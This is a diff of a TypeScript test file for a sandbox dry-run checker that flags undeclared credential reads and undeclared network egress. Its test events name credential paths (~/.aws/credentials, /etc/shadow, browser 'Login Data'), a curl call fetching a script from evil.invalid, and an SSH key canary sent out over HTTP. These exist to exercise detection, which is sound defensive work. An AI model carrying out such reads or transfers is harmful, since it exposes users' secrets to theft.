@@ -1,16 +1,33 @@
 import { describe, expect, it } from 'vitest';
-import { noCapabilities, type Capabilities, type DryRunEvent } from '../schemas/index.ts';
+import { ObservedCapabilitiesSchema, noCapabilities, type Capabilities, type DryRunEvent } from '../schemas/index.ts';
 import { createHoneypot } from './honeypot.ts';
-import { findViolations, hostAllowed, observedCapabilities } from './violations.ts';
+import { findViolations, hostAllowed, networkHost, observedCapabilities } from './violations.ts';
 
 const honeypot = createHoneypot();
 const event = (kind: DryRunEvent['kind'], target: string, extra: Partial<DryRunEvent> & Record<string, unknown> = {}): DryRunEvent => ({ kind, target, command: 'run', canary: false, ...extra });
-const ids = (events: DryRunEvent[], declared: Capabilities = noCapabilities()) => findViolations(events, declared, honeypot).map((violation) => violation.ruleId);
+const ids = (events: DryRunEvent[], declared: Capabilities = noCapabilities(), userChose?: (command: string, host: string) => boolean) =>
+  findViolations(events, declared, honeypot, userChose).map((violation) => violation.ruleId);
 
 describe('findViolations', () => {
   it('flags undeclared credential reads but not declared ones', () => {
     expect(ids([event('file-read', '~/.aws/credentials', { canary: true })])).toEqual(['dryrun-credential-read']);
     expect(ids([event('file-read', '~/.aws/credentials', { canary: true })], { ...noCapabilities(), filesystem: { read: ['~/.aws/'], write: [] } })).toEqual([]);
+  });
+
+  it('flags a read of any path of a credential kind, planted or not, found or not', () => {
+    expect(ids([event('file-read', '~/.kube/config', { missing: true })])).toEqual(['dryrun-credential-read']);
+    expect(ids([event('file-read', '~/.config/google-chrome/Default/Login Data', { missing: true })])).toEqual(['dryrun-credential-read']);
+    expect(ids([event('file-read', '~/.git-credentials', { canary: true })])).toEqual(['dryrun-credential-read']);
+    expect(ids([event('file-read', '/etc/shadow', { refused: true })])).toEqual(['dryrun-credential-read']);
+    const [violation] = findViolations([event('file-read', '~/.kube/config', { missing: true })], noCapabilities(), honeypot);
+    expect(violation.message).toContain('cloud provider credentials');
+    expect(violation.message).toContain('does not exist');
+  });
+
+  it('leaves the skill\'s own files and declared reads alone, and lets kubectl look for its kubeconfig', () => {
+    expect(ids([event('file-read', './fixtures/.aws/credentials')])).toEqual([]);
+    expect(ids([event('file-read', '~/.kube/config', { missing: true })], { ...noCapabilities(), filesystem: { read: ['~/.kube/'], write: [] } })).toEqual([]);
+    expect(ids([event('file-read', '~/.kube/config', { missing: true })], { ...noCapabilities(), commands: ['kubectl'] })).toEqual([]);
   });
 
   it('lets a declared tool read its own credentials, and send them only to a declared host', () => {
@@ -47,8 +64,35 @@ describe('findViolations', () => {
     expect(ids([event('exec', '/usr/bin/curl', { argv: ['curl', 'https://get.evil.invalid/i.sh'] })], declared)).toEqual(['dryrun-undeclared-egress']);
   });
 
-  it('turns every limit into a violation named after it', () => {
+  it('turns every limit into a violation named after it, processes left running as a warning', () => {
     expect(ids([event('limit', 'CPU time 10000 ms', { limit: 'cpu' })])).toEqual(['dryrun-limit-cpu']);
+    expect(findViolations([event('limit', 'processes left running', { limit: 'background' })], noCapabilities(), honeypot).map((violation) => [violation.ruleId, violation.severity])).toEqual([['dryrun-limit-background', 'medium']]);
+  });
+
+  describe('when a destination is the user\'s choice', () => {
+    it('records it without holding it to the declarations', () => {
+      expect(ids([event('dns', 'example.com', { userChosen: true }), event('http', 'https://example.com/', { userChosen: true }), event('file-write', '~/out.txt', { userChosen: true })])).toEqual([]);
+    });
+
+    it('still flags a planted secret sent there', () => {
+      expect(ids([event('http', 'https://example.com/', { userChosen: true, canary: true, body: '<canary ~/.ssh/id_rsa>' })])).toEqual(['dryrun-canary-exfiltration']);
+    });
+
+    it('judges each URL a network client is given on its own', () => {
+      const chose = (command: string, host: string) => command === 'run' && host === 'example.com';
+      expect(ids([event('exec', '/usr/bin/curl', { argv: ['curl', 'https://example.com/'] })], noCapabilities(), chose)).toEqual([]);
+      expect(ids([event('exec', '/usr/bin/curl', { argv: ['curl', 'https://example.com/', 'https://evil.invalid/'] })], noCapabilities(), chose)).toEqual(['dryrun-undeclared-egress']);
+    });
+  });
+});
+
+describe('networkHost', () => {
+  it('reads hosts from URLs, IPv6 literals and targets that are not valid URLs', () => {
+    expect(networkHost({ target: 'http://a b/x' })).toEqual({ host: 'a b', port: undefined });
+    expect(networkHost({ target: 'https://user:pw@API.example.invalid:8443/x?y' })).toEqual({ host: 'api.example.invalid', port: 8443 });
+    expect(networkHost({ target: 'http://[::1]:8080/' })).toEqual({ host: '::1', port: 8080 });
+    expect(networkHost({ target: '[2001:db8::1]:443' })).toEqual({ host: '2001:db8::1', port: 443 });
+    expect(networkHost({ target: '_svc._tcp.x.invalid' })).toEqual({ host: '_svc._tcp.x.invalid', port: undefined });
   });
 });
 
@@ -66,5 +110,15 @@ describe('observedCapabilities', () => {
   it('collects hosts, paths outside the working directory and commands', () => {
     const observed = observedCapabilities([event('exec', '/usr/bin/python3'), event('exec', 'jq', { found: false }), event('file-read', './a'), event('file-read', '~/.npmrc'), event('connect', 'api.example.invalid:443')], honeypot);
     expect(observed).toEqual({ network: ['api.example.invalid'], env: [], filesystem: { read: ['~/.npmrc'], write: [] }, commands: ['jq', 'python3'] });
+  });
+
+  it('records odd values as observed, in a schema that accepts them', () => {
+    const observed = observedCapabilities([event('connect', '[::1]:8080'), event('dns', '_svc._tcp.x.invalid'), event('http', 'http://a b/'), event('exec', '/tmp/my tool'), event('file-read', '~/My Documents/x y.txt')], honeypot);
+    expect(observed).toEqual({ network: ['::1', '_svc._tcp.x.invalid', 'a b'], env: [], filesystem: { read: ['~/My Documents/x y.txt'], write: [] }, commands: ['my tool'] });
+    expect(ObservedCapabilitiesSchema.safeParse(observed).success).toBe(true);
+  });
+
+  it('leaves out destinations the user chose', () => {
+    expect(observedCapabilities([event('http', 'https://example.com/', { userChosen: true })], honeypot).network).toEqual([]);
   });
 });
